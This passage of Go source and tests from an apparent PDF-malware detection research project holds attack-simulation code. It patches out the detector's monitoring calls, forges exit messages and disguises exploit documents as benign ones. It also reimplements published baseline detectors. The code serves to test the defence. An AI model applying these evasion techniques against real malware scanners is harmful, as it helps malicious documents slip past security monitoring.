		if !seen[m] {
			seen[m] = true
			out = append(out, m)
		}
	}
	return out
}

// FixedNameKeySearch simulates the naive signature attack that looks for
// well-known variable names near the key ("the key is stored … near an
// identifiable string"). Randomized identifiers defeat it.
var fixedNamePattern = regexp.MustCompile(`var\s+(key|_key|k|auth|password|MyPwd|secret)\s*=`)

// FixedNameKeySearch returns identifier-anchored key candidates.
func FixedNameKeySearch(monitoredSource string) []string {
	return fixedNamePattern.FindAllString(monitoredSource, -1)
}

// PatchOutMonitoring simulates the §IV-B runtime patching attack: shellcode
// locates the second script in memory and blanks out every statement that
// references the monitoring channel, hoping the remaining code still runs.
// Because the decryptor consumes the enter acknowledgement, the patched
// script cannot decrypt the payload.
func PatchOutMonitoring(monitoredSource string) string {
	lines := strings.Split(monitoredSource, "\n")
	var out []string
	for _, line := range lines {
		if !strings.Contains(line, "SOAP.request") {
			out = append(out, line)
			continue
		}
		// The attacker nulls monitoring statements. Assignments keep their
		// left side alive to preserve syntax (a real patcher overwrites
		// call sites with NOPs, leaving registers undefined).
		if idx := strings.Index(line, "=SOAP.request"); idx >= 0 {
			out = append(out, line[:idx]+"=void 0;")
			continue
		}
		// Prologue/epilogue statements become no-ops; inside try/finally
		// the structure is preserved.
		patched := soapCallPattern.ReplaceAllString(line, "void 0")
		out = append(out, patched)
	}
	return strings.Join(out, "\n")
}

var soapCallPattern = regexp.MustCompile(`SOAP\.request\(\{[^}]*\}\s*\}\)`)

// ForgedExitScript builds the fake-message mimicry payload: before carrying
// out its operations, the script sends a forged "exit" with a guessed key
// so the detector believes Javascript has finished. Zero tolerance turns
// the forgery itself into the alarm.
func ForgedExitScript(endpoint, guessedKey, realBody string) string {
	return fmt.Sprintf(
		`try { SOAP.request({cURL:%q, oRequest:{Event:"exit", Key:%q, Seq:1}}); } catch (e) {}
%s`, endpoint, guessedKey, realBody)
}

// MimicrySample transforms a working exploit into a structural mimic of
// benign documents (the attack of Maiorca et al. [8] that defeats
// structural detectors): plenty of pages, text content, fonts and metadata;
// no header/keyword/encoding obfuscation; the Javascript chain is a tiny
// fraction of the object graph. The runtime behaviour is unchanged.
func MimicrySample(seed int64) corpus.Sample {
	//nolint:gosec // deterministic attack-sample synthesis.
	rng := rand.New(rand.NewSource(seed))
	g := corpus.NewGenerator(seed + 1000)

	// Start from a working exploit; harvest its script.
	mal, _ := g.MaliciousFamily("mal-geticon")
	script := extractFirstScript(mal.Raw)
	if script == "" {
		// Defensive: fall back to the raw sample.
		return mal
	}

	// Rebuild inside a benign-shaped document.
	raw, err := corpus.BuildBenignShapedExploit(rng, script)
	if err != nil {
		return mal
	}
	return corpus.Sample{
		ID:      fmt.Sprintf("mimicry-%05d", seed),
		Raw:     raw,
		Label:   corpus.LabelMalicious,
		Family:  "mal-mimicry",
		HasJS:   true,
		Outcome: corpus.OutcomeExploit,
	}
}

// EvasiveSample builds a delayed-detonation adversary: a working
// exploit whose trigger hides behind a gate that evaluates false in any
// single-execution sandbox (a time bomb, a locale fingerprint, or an
// emulation check — see corpus.EvasiveKinds for the names). Opened at
// standard depth the document does nothing observable and is classified
// benign; a forced-execution deep scan explores the closed arm of the
// gate and catches the payload. ok is false for an unknown kind.
func EvasiveSample(kind string, seed int64) (corpus.Sample, bool) {
	return corpus.NewGenerator(seed).Evasive(kind)
}

// EvasiveKinds lists the gated-family names EvasiveSample accepts.
func EvasiveKinds() []string { return corpus.EvasiveKinds() }

func extractFirstScript(raw []byte) string {
	doc, err := pdf.Parse(raw, pdf.ParseOptions{})
	if err != nil {
		return ""
	}
	chains, err := pdf.ReconstructChains(doc)
	if err != nil {
		return ""
	}
	for _, c := range chains.Chains {
		if c.Triggered && c.Source != "" {
			return c.Source
		}
	}
	return ""
}
