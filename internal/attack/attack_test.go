package attack

import (
	"strings"
	"testing"

	"pdfshield/internal/baseline"
	"pdfshield/internal/corpus"
	"pdfshield/internal/instrument"
	"pdfshield/internal/js"
	"pdfshield/internal/pdf"
	"pdfshield/internal/pipeline"
)

// instrumentOne builds and instruments a single-script document, returning
// the monitored source.
func instrumentOne(t *testing.T, script string) (string, *instrument.Result) {
	t.Helper()
	d := pdf.NewDocument()
	jsRef := d.Add(pdf.String{Value: []byte(script)})
	action := d.Add(pdf.Dict{"S": pdf.Name("JavaScript"), "JS": jsRef})
	catalog := d.Add(pdf.Dict{"Type": pdf.Name("Catalog"), "OpenAction": action})
	d.Trailer["Root"] = catalog
	raw, err := pdf.Write(d, pdf.WriteOptions{})
	if err != nil {
		t.Fatal(err)
	}
	reg := instrument.NewRegistry("attackdet0001")
	ins := instrument.New(reg, instrument.Options{Seed: 77})
	res, err := ins.InstrumentBytes("attack-doc", raw)
	if err != nil {
		t.Fatal(err)
	}
	doc, err := pdf.Parse(res.Output, pdf.ParseOptions{})
	if err != nil {
		t.Fatal(err)
	}
	chains, err := pdf.ReconstructChains(doc)
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range chains.Chains {
		if c.Triggered {
			return c.Source, res
		}
	}
	t.Fatal("no monitored chain")
	return "", nil
}

func TestSignatureKeySearchFindsMultipleCandidates(t *testing.T) {
	src, res := instrumentOne(t, "var x = 1;")
	candidates := SignatureKeySearch(src)
	if len(candidates) < 2 {
		t.Fatalf("key search found %d candidates, want >= 2 (real + decoys)", len(candidates))
	}
	real := res.Key.String()
	found := false
	for _, c := range candidates {
		if c == real {
			found = true
		}
	}
	if !found {
		t.Error("real key not among candidates (scan is sound, so it must be)")
	}
	// The point: the attacker cannot tell which candidate is real.
}

func TestFixedNameKeySearchFails(t *testing.T) {
	src, _ := instrumentOne(t, "var x = 1;")
	if hits := FixedNameKeySearch(src); len(hits) != 0 {
		t.Errorf("fixed-name search should find nothing, got %v", hits)
	}
}

func TestPatchOutMonitoringBreaksDecryption(t *testing.T) {
	src, _ := instrumentOne(t, "patched = 1;")
	patched := PatchOutMonitoring(src)
	if strings.Contains(patched, "SOAP.request") {
		t.Fatal("patcher left monitoring calls behind")
	}
	it := js.New()
	_, err := it.Run(patched)
	if err == nil {
		// Execution may "succeed" syntactically but the payload must not
		// have run.
		if v, ok := it.Global.Lookup("patched"); ok && v.Num() == 1 {
			t.Fatal("patched script executed the original payload without monitoring")
		}
	}
}

func TestUnpatchedMonitoredScriptRunsWithAck(t *testing.T) {
	src, _ := instrumentOne(t, "ran = 42;")
	it := js.New()
	soap := js.NewHostObject("SOAP")
	soap.Set("request", js.ObjectValue(js.NewHostFunc("request", func(_ *js.Interp, _ js.Value, _ []js.Value) (js.Value, error) {
		resp := js.NewObject()
		resp.Set("status", js.StringValue("ok"))
		return js.ObjectValue(resp), nil
	})))
	it.Global.Declare("SOAP", js.ObjectValue(soap))
	if _, err := it.Run(src); err != nil {
		t.Fatal(err)
	}
	if v, _ := it.Global.Lookup("ran"); v.Num() != 42 {
		t.Errorf("ran = %v", v)
	}
}

func TestForgedExitTripsZeroTolerance(t *testing.T) {
	sys, err := pipeline.NewSystem(pipeline.Options{ViewerVersion: 8.0, Seed: 13})
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = sys.Close() }()

	// Malicious doc that forges an exit (guessed key) before exploiting.
	g := corpus.NewGenerator(500)
	mal, _ := g.MaliciousFamily("mal-geticon")
	doc, err := pdf.Parse(mal.Raw, pdf.ParseOptions{})
	if err != nil {
		t.Fatal(err)
	}
	chains, err := pdf.ReconstructChains(doc)
	if err != nil {
		t.Fatal(err)
	}
	body := chains.Chains[0].Source
	forged := ForgedExitScript(sys.Detector.SOAPURL(),
		sys.Registry.DetectorID()+":000000000000000000000000", body)

	d2 := pdf.NewDocument()
	jsRef := d2.Add(pdf.String{Value: []byte(forged)})
	action := d2.Add(pdf.Dict{"S": pdf.Name("JavaScript"), "JS": jsRef})
	catalog := d2.Add(pdf.Dict{"Type": pdf.Name("Catalog"), "OpenAction": action})
	d2.Trailer["Root"] = catalog
	raw, err := pdf.Write(d2, pdf.WriteOptions{})
	if err != nil {
		t.Fatal(err)
	}

	v, err := sys.ProcessDocument("forger", raw)
	if err != nil {
		t.Fatal(err)
	}
	if !v.Malicious {
		t.Fatal("forged-message attacker not detected")
	}
	if v.Alert.Reason != "fake-message" {
		t.Errorf("alert reason = %q, want fake-message", v.Alert.Reason)
	}
}

func TestMimicryDefeatsStructuralButNotUs(t *testing.T) {
	// Train structural baselines on the standard corpus.
	g := corpus.NewGenerator(600)
	var trainB, trainM [][]byte
	for _, s := range g.BenignWithJS(50) {
		trainB = append(trainB, s.Raw)
	}
	for _, s := range g.MaliciousBatch(50) {
		trainM = append(trainM, s.Raw)
	}

	mimic := MimicrySample(601)
	if mimic.Family != "mal-mimicry" {
		t.Fatalf("mimicry build failed: %+v", mimic.Family)
	}

	evaded := 0
	for _, name := range []string{"structpath", "pdfrate"} {
		det, err := baseline.ByName(name, 3)
		if err != nil {
			t.Fatal(err)
		}
		if err := det.Train(trainB, trainM); err != nil {
			t.Fatal(err)
		}
		got, err := det.Classify(mimic.Raw)
		if err != nil {
			t.Fatal(err)
		}
		if !got {
			evaded++
		}
	}
	if evaded == 0 {
		t.Error("mimicry evaded neither structural baseline (attack should work on at least one)")
	}

	// Our system still detects it: behaviour, not structure.
	sys, err := pipeline.NewSystem(pipeline.Options{ViewerVersion: 8.0, Seed: 14})
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = sys.Close() }()
	v, err := sys.ProcessDocument(mimic.ID, mimic.Raw)
	if err != nil {
		t.Fatal(err)
	}
	if !v.Malicious {
		t.Fatalf("mimicry sample evaded the instrumented detector: %+v", v.Open)
	}
}
