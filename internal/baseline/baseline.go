// Package baseline reimplements the detectors the paper compares against in
// Table IX: byte n-gram analysis [17], PJScan [7], PDFRate [4], the
// structural-path method [5], MDScan [9] and a Wepawet/JSAND-style lexical
// analyzer [18]. Each is built from scratch on the internal/ml toolbox and
// carries the documented blind spot that motivates the paper's approach.
package baseline

import (
	"errors"
	"fmt"
)

// Detector is a trainable document classifier.
type Detector interface {
	// Name identifies the detector in reports.
	Name() string
	// Train fits the detector on labelled raw documents.
	Train(benign, malicious [][]byte) error
	// Classify returns true when the document is deemed malicious.
	Classify(raw []byte) (bool, error)
}

// ErrUntrained is returned by Classify before Train.
var ErrUntrained = errors.New("baseline: detector not trained")

// All returns one instance of every baseline, seeded deterministically.
func All(seed int64) []Detector {
	return []Detector{
		NewNGram(seed),
		NewPJScan(),
		NewPDFRate(seed),
		NewStructPath(),
		NewMDScan(),
		NewWepawet(),
		NewCensus(seed),
	}
}

// ByName returns a named baseline.
func ByName(name string, seed int64) (Detector, error) {
	for _, d := range All(seed) {
		if d.Name() == name {
			return d, nil
		}
	}
	return nil, fmt.Errorf("baseline: unknown detector %q", name)
}
