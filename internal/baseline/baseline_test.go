package baseline

import (
	"testing"

	"pdfshield/internal/corpus"
	"pdfshield/internal/ml"
	"pdfshield/internal/triage"
)

// trainEval trains a detector on one corpus slice and evaluates on another.
func trainEval(t *testing.T, d Detector, trainB, trainM, testB, testM [][]byte) ml.Confusion {
	t.Helper()
	if err := d.Train(trainB, trainM); err != nil {
		t.Fatalf("%s: train: %v", d.Name(), err)
	}
	var c ml.Confusion
	for _, raw := range testB {
		got, err := d.Classify(raw)
		if err != nil {
			t.Fatalf("%s: classify benign: %v", d.Name(), err)
		}
		c.Observe(got, false)
	}
	for _, raw := range testM {
		got, err := d.Classify(raw)
		if err != nil {
			t.Fatalf("%s: classify malicious: %v", d.Name(), err)
		}
		c.Observe(got, true)
	}
	return c
}

func corpusSlices(seed int64, nTrain, nTest int) (trainB, trainM, testB, testM [][]byte) {
	g := corpus.NewGenerator(seed)
	for _, s := range g.BenignWithJS(nTrain) {
		trainB = append(trainB, s.Raw)
	}
	for _, s := range g.MaliciousBatch(nTrain) {
		trainM = append(trainM, s.Raw)
	}
	for _, s := range g.BenignWithJS(nTest) {
		testB = append(testB, s.Raw)
	}
	for _, s := range g.MaliciousBatch(nTest) {
		testM = append(testM, s.Raw)
	}
	return trainB, trainM, testB, testM
}

func TestUntrainedErrors(t *testing.T) {
	g := corpus.NewGenerator(1)
	raw := g.BenignFormJS().Raw
	for _, d := range All(1) {
		if _, err := d.Classify(raw); err == nil {
			t.Errorf("%s: expected ErrUntrained", d.Name())
		}
	}
}

func TestByName(t *testing.T) {
	for _, name := range []string{"ngram", "pjscan", "pdfrate", "structpath", "mdscan", "wepawet", "census"} {
		if _, err := ByName(name, 1); err != nil {
			t.Errorf("ByName(%q): %v", name, err)
		}
	}
	if _, err := ByName("nope", 1); err == nil {
		t.Error("unknown name should error")
	}
}

func TestStructuralBaselinesStrongOnStandardCorpus(t *testing.T) {
	trainB, trainM, testB, testM := corpusSlices(21, 60, 40)
	for _, name := range []string{"structpath", "pdfrate"} {
		d, _ := ByName(name, 5)
		c := trainEval(t, d, trainB, trainM, testB, testM)
		if c.TPR() < 0.9 {
			t.Errorf("%s: TPR = %.2f, want >= 0.9 (%v)", name, c.TPR(), c)
		}
		if c.FPR() > 0.15 {
			t.Errorf("%s: FPR = %.2f, want <= 0.15 (%v)", name, c.FPR(), c)
		}
	}
}

func TestCensusDetectorStrongOnStandardCorpus(t *testing.T) {
	trainB, trainM, testB, testM := corpusSlices(27, 60, 40)
	d := NewCensus(5)
	c := trainEval(t, d, trainB, trainM, testB, testM)
	if c.TPR() < 0.9 {
		t.Errorf("census: TPR = %.2f, want >= 0.9 (%v)", c.TPR(), c)
	}
	if c.FPR() > 0.15 {
		t.Errorf("census: FPR = %.2f, want <= 0.15 (%v)", c.FPR(), c)
	}
}

func TestCensusVectorOnGarbage(t *testing.T) {
	v := censusVector([]byte("not a pdf"))
	if len(v) != triage.CensusDim {
		t.Fatalf("dim = %d, want %d", len(v), triage.CensusDim)
	}
	// Unparseable input takes the bytes-only census: structural columns
	// (objects, F1–F5 sum) stay zero while byte-level ones still fill in.
	if v[11] != 0 || v[15] != 0 {
		t.Errorf("structural columns should be zero on garbage: %v", v)
	}
	if v[0] == 0 {
		t.Errorf("size column should be set: %v", v)
	}
}

func TestMDScanCatchesPlainSprayMissesTitleHidden(t *testing.T) {
	g := corpus.NewGenerator(22)
	d := NewMDScan()
	if err := d.Train(nil, nil); err != nil {
		t.Fatal(err)
	}

	plain, _ := g.MaliciousFamily("mal-printf")
	got, err := d.Classify(plain.Raw)
	if err != nil {
		t.Fatal(err)
	}
	if !got {
		t.Error("mdscan missed a plain spray sample")
	}

	// Syntax obfuscation: payload referenced through this.info.title; the
	// emulator has no Doc context, the script throws before spraying.
	hidden, _ := g.MaliciousFamily("mal-titlehidden")
	got, err = d.Classify(hidden.Raw)
	if err != nil {
		t.Fatal(err)
	}
	if got {
		t.Error("mdscan should miss the title-hidden sample (documented weakness)")
	}
}

func TestMDScanBenignClean(t *testing.T) {
	g := corpus.NewGenerator(23)
	d := NewMDScan()
	if err := d.Train(nil, nil); err != nil {
		t.Fatal(err)
	}
	for _, s := range g.BenignWithJS(20) {
		got, err := d.Classify(s.Raw)
		if err != nil {
			t.Fatal(err)
		}
		if got {
			t.Errorf("mdscan FP on %s (%s)", s.ID, s.Family)
		}
	}
}

func TestWepawetPartialCoverage(t *testing.T) {
	g := corpus.NewGenerator(24)
	d := NewWepawet()
	if err := d.Train(nil, nil); err != nil {
		t.Fatal(err)
	}
	caught, total := 0, 0
	for _, s := range g.MaliciousBatch(60) {
		got, err := d.Classify(s.Raw)
		if err != nil {
			t.Fatal(err)
		}
		total++
		if got {
			caught++
		}
	}
	tpr := float64(caught) / float64(total)
	// The paper measured Wepawet at 68% TP; the rule set should land in a
	// broad middle band — well below the strong detectors.
	if tpr < 0.3 || tpr > 0.95 {
		t.Errorf("wepawet TPR = %.2f, want partial coverage", tpr)
	}
	for _, s := range g.BenignWithJS(20) {
		got, err := d.Classify(s.Raw)
		if err != nil {
			t.Fatal(err)
		}
		if got {
			t.Errorf("wepawet FP on %s", s.Family)
		}
	}
}

func TestPJScanModerate(t *testing.T) {
	trainB, trainM, testB, testM := corpusSlices(25, 60, 40)
	d := NewPJScan()
	c := trainEval(t, d, trainB, trainM, testB, testM)
	if c.TPR() < 0.5 {
		t.Errorf("pjscan TPR = %.2f too low (%v)", c.TPR(), c)
	}
}

func TestNGramRuns(t *testing.T) {
	trainB, trainM, testB, testM := corpusSlices(26, 40, 20)
	d := NewNGram(3)
	c := trainEval(t, d, trainB, trainM, testB, testM)
	// N-grams on PDF are documented to be weak; just require it beats
	// coin-flipping on the easy corpus and terminates.
	if c.Accuracy() < 0.5 {
		t.Logf("ngram accuracy = %.2f (expected weak): %v", c.Accuracy(), c)
	}
}

func TestStructuralVectorOnGarbage(t *testing.T) {
	v := structuralVector([]byte("not a pdf"))
	if v[0] != -1 {
		t.Errorf("unparseable marker missing: %v", v)
	}
	paths := docPaths([]byte("not a pdf"))
	if !paths["<unparseable>"] {
		t.Error("unparseable path marker missing")
	}
}

func TestLexicalVectorStats(t *testing.T) {
	total, longest := stringLiteralStats(`var a = "hello"; var b = 'xx';`)
	if total != 7 || longest != 5 {
		t.Errorf("stats = %d,%d", total, longest)
	}
	if e := identifierEntropy("aaaa"); e != 0 {
		t.Errorf("entropy(aaaa) = %v", e)
	}
	if e := identifierEntropy("abcdefgh"); e <= 2 {
		t.Errorf("entropy(abcdefgh) = %v", e)
	}
}

func TestNonPrintableRun(t *testing.T) {
	if got := nonPrintableRun("hello world"); got != 0 {
		t.Errorf("printable run = %d", got)
	}
	sled := ""
	for i := 0; i < 32; i++ {
		sled += "\x0c"
	}
	if got := nonPrintableRun("x" + sled + "y"); got != 32 {
		t.Errorf("sled run = %d", got)
	}
	if got := nonPrintableRun("ఌఌఌ"); got != 3 {
		t.Errorf("u0c0c run = %d", got)
	}
}
