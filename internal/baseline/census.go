package baseline

import (
	"math/rand"

	"pdfshield/internal/instrument"
	"pdfshield/internal/ml"
	"pdfshield/internal/triage"
)

// Census is a PDFInspect-style detector: the triage tier's unified static
// census (suspicious names, structure stats, entropy, the F1–F5 vector)
// flattened through Census.FeatureVector feeds a bagged ensemble of
// decision trees. It shares the exact extraction the pipeline's fast path
// gates on, so Table IX can compare that feature set as a trained
// classifier against the baselines and the runtime detector.
type Census struct {
	seed  int64
	trees []*ml.Tree
}

var _ Detector = (*Census)(nil)

// NewCensus returns an untrained census detector.
func NewCensus(seed int64) *Census { return &Census{seed: seed} }

// Name implements Detector.
func (*Census) Name() string { return "census" }

const censusTrees = 9

// censusVector extracts the triage census features for one document. The
// front end's structural analysis is reused when the document parses;
// unparseable input falls back to the bytes-only census, whose
// "no-analysis" flag leaves the structural columns zero — itself signal.
func censusVector(raw []byte) []float64 {
	var res *instrument.Result
	if feats, chains, doc, err := instrument.Analyze(raw); err == nil {
		res = &instrument.Result{
			Features:    feats,
			Chains:      chains,
			Doc:         doc,
			ObjectCount: chains.TotalObjects,
		}
	}
	return triage.TakeCensus(raw, res).FeatureVector()
}

// Train implements Detector: a bagged tree ensemble over census vectors.
func (d *Census) Train(benign, malicious [][]byte) error {
	ds := &ml.Dataset{Dim: triage.CensusDim}
	for _, raw := range benign {
		ds.Add(censusVector(raw), -1)
	}
	for _, raw := range malicious {
		ds.Add(censusVector(raw), 1)
	}
	//nolint:gosec // deterministic bootstrap resampling.
	rng := rand.New(rand.NewSource(d.seed + 7))
	d.trees = d.trees[:0]
	for t := 0; t < censusTrees; t++ {
		boot := &ml.Dataset{Dim: ds.Dim}
		for i := 0; i < len(ds.Examples); i++ {
			ex := ds.Examples[rng.Intn(len(ds.Examples))]
			boot.Examples = append(boot.Examples, ex)
		}
		d.trees = append(d.trees, ml.TrainTree(boot, ml.TreeConfig{MaxDepth: 8, MinLeafSize: 2}))
	}
	return nil
}

// Classify implements Detector by majority vote of the ensemble.
func (d *Census) Classify(raw []byte) (bool, error) {
	if len(d.trees) == 0 {
		return false, ErrUntrained
	}
	x := censusVector(raw)
	votes := 0
	for _, t := range d.trees {
		if t.Predict(x) > 0 {
			votes++
		}
	}
	return votes*2 > len(d.trees), nil
}
