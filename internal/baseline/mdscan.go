package baseline

import (
	"strings"

	"pdfshield/internal/js"
)

// MDScan reimplements Tzermias et al.'s extract-and-emulate detector [9]:
// Javascript is extracted from the document and executed in a bare emulated
// interpreter; heap-spray-scale allocations or vulnerable-API invocations
// flag the document. Its documented weaknesses (§II) are inherited
// faithfully: extraction is defeated by syntax obfuscation (e.g. shellcode
// referenced as this.info.title — the emulator has no document context), and
// PDF-specific objects are only partially emulated.
type MDScan struct {
	trained bool
}

var _ Detector = (*MDScan)(nil)

// NewMDScan returns MDScan (training only records that Train ran; the
// method is signature-free).
func NewMDScan() *MDScan { return &MDScan{} }

// Name implements Detector.
func (*MDScan) Name() string { return "mdscan" }

// Train implements Detector.
func (d *MDScan) Train(benign, malicious [][]byte) error {
	d.trained = true
	return nil
}

// mdscanSprayThresholdMB flags emulated runs that allocate like a heap
// spray.
const mdscanSprayThresholdMB = 64

// Classify implements Detector.
func (d *MDScan) Classify(raw []byte) (bool, error) {
	if !d.trained {
		return false, ErrUntrained
	}
	src := extractJS(raw)
	if src == "" {
		return false, nil
	}
	return emulateAndJudge(src), nil
}

// emulateAndJudge runs extracted JS in a bare interpreter with partial
// Acrobat stubs and inspects runtime behaviour.
func emulateAndJudge(src string) bool {
	it := js.New()
	it.StepLimit = 20_000_000
	it.MaxHeap = 512 << 20

	suspicious := false
	markVuln := func(name string) js.HostFn {
		return func(_ *js.Interp, _ js.Value, args []js.Value) (js.Value, error) {
			for _, a := range args {
				if a.IsString() && a.StrLen() > 2048 {
					suspicious = true
				}
			}
			if name == "printf" && len(args) > 0 && args[0].IsString() &&
				strings.Contains(args[0].Str(), "%4") {
				suspicious = true
			}
			if name == "newPlayer" && len(args) > 0 && args[0].IsNull() {
				suspicious = true
			}
			return js.Undefined(), nil
		}
	}

	// Partial emulation: app and util exist; the Doc object does NOT (no
	// document context in the emulator), so this.info.title-style sources
	// throw before reaching their spray.
	app := js.NewHostObject("app")
	app.Set("viewerVersion", js.NumberValue(8.0))
	app.Set("alert", js.ObjectValue(js.NewHostFunc("alert", func(_ *js.Interp, _ js.Value, _ []js.Value) (js.Value, error) {
		return js.Undefined(), nil
	})))
	app.Set("setTimeOut", js.ObjectValue(js.NewHostFunc("setTimeOut", markVuln("setTimeOut"))))
	it.Global.Declare("app", js.ObjectValue(app))

	util := js.NewHostObject("util")
	util.Set("printf", js.ObjectValue(js.NewHostFunc("printf", markVuln("printf"))))
	util.Set("printd", js.ObjectValue(js.NewHostFunc("printd", func(_ *js.Interp, _ js.Value, _ []js.Value) (js.Value, error) {
		return js.StringValue(""), nil
	})))
	it.Global.Declare("util", js.ObjectValue(util))

	collab := js.NewHostObject("Collab")
	collab.Set("getIcon", js.ObjectValue(js.NewHostFunc("getIcon", markVuln("getIcon"))))
	it.Global.Declare("Collab", js.ObjectValue(collab))

	media := js.NewHostObject("media")
	media.Set("newPlayer", js.ObjectValue(js.NewHostFunc("newPlayer", markVuln("newPlayer"))))
	it.Global.Declare("media", js.ObjectValue(media))

	// No Doc / this.info / getField / spell / SOAP: incomplete emulation
	// is the point.

	_, _ = it.Run(src) // errors are expected on context-dependent scripts

	if it.HeapBytes > mdscanSprayThresholdMB<<20 {
		suspicious = true
	}
	return suspicious
}
