package baseline

import (
	"pdfshield/internal/ml"
)

// NGram reproduces the embedded-malware n-gram detectors of [16][17]: byte
// bigram statistics over the whole file feed a linear classifier. On PDF
// the approach struggles — most bytes belong to compressed streams whose
// bigram profile is near-uniform for benign and malicious documents alike —
// which is why Table IX reports it at 31% FP / 84% TP.
type NGram struct {
	seed int64
	svm  *ml.SVM
}

var _ Detector = (*NGram)(nil)

// NewNGram returns an untrained n-gram detector.
func NewNGram(seed int64) *NGram { return &NGram{seed: seed} }

// Name implements Detector.
func (*NGram) Name() string { return "ngram" }

const ngramBins = 256

// ngramVector hashes byte bigrams into a fixed-size normalized histogram.
func ngramVector(raw []byte) []float64 {
	v := make([]float64, ngramBins)
	if len(raw) < 2 {
		return v
	}
	for i := 0; i+1 < len(raw); i++ {
		h := (uint32(raw[i])*31 + uint32(raw[i+1])) % ngramBins
		v[h]++
	}
	total := float64(len(raw) - 1)
	for i := range v {
		v[i] /= total
	}
	return v
}

// Train implements Detector.
func (d *NGram) Train(benign, malicious [][]byte) error {
	ds := &ml.Dataset{Dim: ngramBins}
	for _, raw := range benign {
		ds.Add(ngramVector(raw), -1)
	}
	for _, raw := range malicious {
		ds.Add(ngramVector(raw), 1)
	}
	d.svm = ml.TrainSVM(ds, ml.SVMConfig{Seed: d.seed, Epochs: 15})
	return nil
}

// Classify implements Detector.
func (d *NGram) Classify(raw []byte) (bool, error) {
	if d.svm == nil {
		return false, ErrUntrained
	}
	return d.svm.Predict(ngramVector(raw)) > 0, nil
}
