package baseline

import (
	"math/rand"

	"pdfshield/internal/ml"
	"pdfshield/internal/pdf"
)

// PDFRate reimplements Smutz & Stavrou's detector [4]: metadata and
// structural features over the document feed a bagged ensemble of decision
// trees (their random forest). Strong on ordinary malicious documents,
// evadable by mimicry on the same features [8].
type PDFRate struct {
	seed  int64
	trees []*ml.Tree
}

var _ Detector = (*PDFRate)(nil)

// NewPDFRate returns an untrained PDFRate.
func NewPDFRate(seed int64) *PDFRate { return &PDFRate{seed: seed} }

// Name implements Detector.
func (*PDFRate) Name() string { return "pdfrate" }

const (
	pdfrateDim   = 14
	pdfrateTrees = 9
)

// structuralVector computes PDFRate-style metadata/structural features.
func structuralVector(raw []byte) []float64 {
	v := make([]float64, pdfrateDim)
	doc, err := pdf.Parse(raw, pdf.ParseOptions{})
	if err != nil {
		// Unparseable: suspicious shape on its own.
		v[0] = -1
		return v
	}
	var (
		streams, pages, fonts, actions, jsKeys, names int
		emptyObjs, annots, embedded, imageXObjects    int
		totalStreamLen                                int
	)
	for _, num := range doc.Numbers() {
		obj, _ := doc.Get(num)
		var dict pdf.Dict
		switch o := obj.Object.(type) {
		case *pdf.Stream:
			streams++
			totalStreamLen += len(o.Raw)
			dict = o.Dict
		case pdf.Dict:
			dict = o
		}
		if pdf.IsEmptyObject(obj.Object) {
			emptyObjs++
		}
		if dict == nil {
			continue
		}
		if t, _ := dict.Get("Type").(pdf.Name); t == "Page" {
			pages++
		} else if t == "Font" {
			fonts++
		} else if t == "Annot" {
			annots++
		} else if t == "EmbeddedFile" {
			embedded++
		}
		if st, _ := dict.Get("Subtype").(pdf.Name); st == "Image" {
			imageXObjects++
		}
		if s, _ := dict.Get("S").(pdf.Name); s == "JavaScript" {
			actions++
		}
		for k := range dict {
			if pdf.IsJavaScriptKey(k) {
				jsKeys++
			}
			if k == "Names" {
				names++
			}
		}
	}
	objs := float64(doc.Len())
	v[0] = objs / 100
	v[1] = float64(streams) / 50
	v[2] = float64(pages) / 20
	v[3] = float64(fonts) / 10
	v[4] = float64(actions)
	v[5] = float64(jsKeys)
	v[6] = float64(names)
	v[7] = float64(emptyObjs)
	v[8] = float64(len(raw)) / (1 << 20)
	if streams > 0 {
		v[9] = float64(totalStreamLen) / float64(streams) / 10000
	}
	if objs > 0 {
		v[10] = float64(pages) / objs
	}
	v[11] = float64(annots)
	v[12] = float64(embedded)
	v[13] = float64(imageXObjects) / 10
	return v
}

// Train implements Detector: bagging over decision trees.
func (d *PDFRate) Train(benign, malicious [][]byte) error {
	full := &ml.Dataset{Dim: pdfrateDim}
	for _, raw := range benign {
		full.Add(structuralVector(raw), -1)
	}
	for _, raw := range malicious {
		full.Add(structuralVector(raw), 1)
	}
	//nolint:gosec // deterministic bootstrap sampling.
	rng := rand.New(rand.NewSource(d.seed + 7))
	d.trees = d.trees[:0]
	n := len(full.Examples)
	for t := 0; t < pdfrateTrees; t++ {
		boot := &ml.Dataset{Dim: pdfrateDim}
		for i := 0; i < n; i++ {
			ex := full.Examples[rng.Intn(n)]
			boot.Add(ex.X, ex.Y)
		}
		d.trees = append(d.trees, ml.TrainTree(boot, ml.TreeConfig{MaxDepth: 10, MinLeafSize: 3}))
	}
	return nil
}

// Classify implements Detector (majority vote).
func (d *PDFRate) Classify(raw []byte) (bool, error) {
	if len(d.trees) == 0 {
		return false, ErrUntrained
	}
	x := structuralVector(raw)
	votes := 0
	for _, t := range d.trees {
		if t.Predict(x) > 0 {
			votes++
		}
	}
	return votes*2 > len(d.trees), nil
}
