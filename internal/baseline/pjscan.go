package baseline

import (
	"math"
	"strings"

	"pdfshield/internal/instrument"
	"pdfshield/internal/ml"
)

// PJScan reimplements Laskov & Šrndić's detector [7]: lexical token
// statistics of the embedded Javascript feed a one-class model trained on
// *malicious* scripts; a document classifies malicious when its lexical
// profile falls inside the learned malicious region. Documents whose
// Javascript cannot be extracted fall back to benign — one of the method's
// documented weaknesses.
type PJScan struct {
	oc *ml.OneClass
}

var _ Detector = (*PJScan)(nil)

// NewPJScan returns an untrained PJScan.
func NewPJScan() *PJScan { return &PJScan{} }

// Name implements Detector.
func (*PJScan) Name() string { return "pjscan" }

// pjscanDim is the lexical feature dimensionality.
const pjscanDim = 12

// lexicalVector computes PJScan-style features from extracted JS source.
func lexicalVector(src string) []float64 {
	v := make([]float64, pjscanDim)
	if src == "" {
		return v
	}
	n := float64(len(src))
	strChars, maxStr := stringLiteralStats(src)
	v[0] = float64(strChars) / n  // string density
	v[1] = float64(maxStr) / 1000 // longest literal (kchars)
	v[2] = float64(strings.Count(src, "eval")) + float64(strings.Count(src, "unescape"))
	v[3] = float64(strings.Count(src, "%u")) / 100 // unicode escapes
	v[4] = float64(strings.Count(src, "fromCharCode"))
	v[5] = float64(strings.Count(src, "while")) + float64(strings.Count(src, "for"))
	v[6] = float64(strings.Count(src, "+=")) / 10
	v[7] = n / 10000 // script length (10kchars)
	v[8] = float64(strings.Count(src, "var ")) / 10
	v[9] = identifierEntropy(src)
